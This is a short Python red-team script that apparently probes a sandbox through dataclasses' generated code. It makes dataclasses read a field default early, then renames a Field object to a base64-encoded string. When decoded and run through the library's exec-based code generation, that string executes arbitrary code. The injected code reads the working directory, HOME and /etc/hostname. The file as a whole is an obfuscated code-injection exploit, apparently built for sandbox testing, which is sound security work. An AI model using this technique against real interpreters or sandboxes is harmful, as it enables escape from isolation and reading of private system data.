# family: red team, round 57b (classmethod(enum.property(fn)) as a dataclass default: dataclasses' getattr(cls, name) runs fn(cls) while a sibling field() is still a Field)
import base64
import dataclasses
import enum

CODE = "X19jbGFzc19fLHByaW50KF9faW1wb3J0X18oJ29zJykuZ2V0Y3dkKCksX19pbXBvcnRfXygnb3MnKS5lbnZpcm9uWydIT01FJ10sb3BlbignL2V0Yy9ob3N0bmFtZScpLnJlYWQoKSxfX2ltcG9ydF9fKCdvcycpKQ=="
SEEN = []


def grab(owner):
    SEEN.append(owner.x)
    return 0


@dataclasses.dataclass
class A:
    x: int = dataclasses.field(default=0)
    y: int = classmethod(enum.property(grab))


def main():
    for f in SEEN[:1]:
        f.name = base64.b64decode(CODE).decode()

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
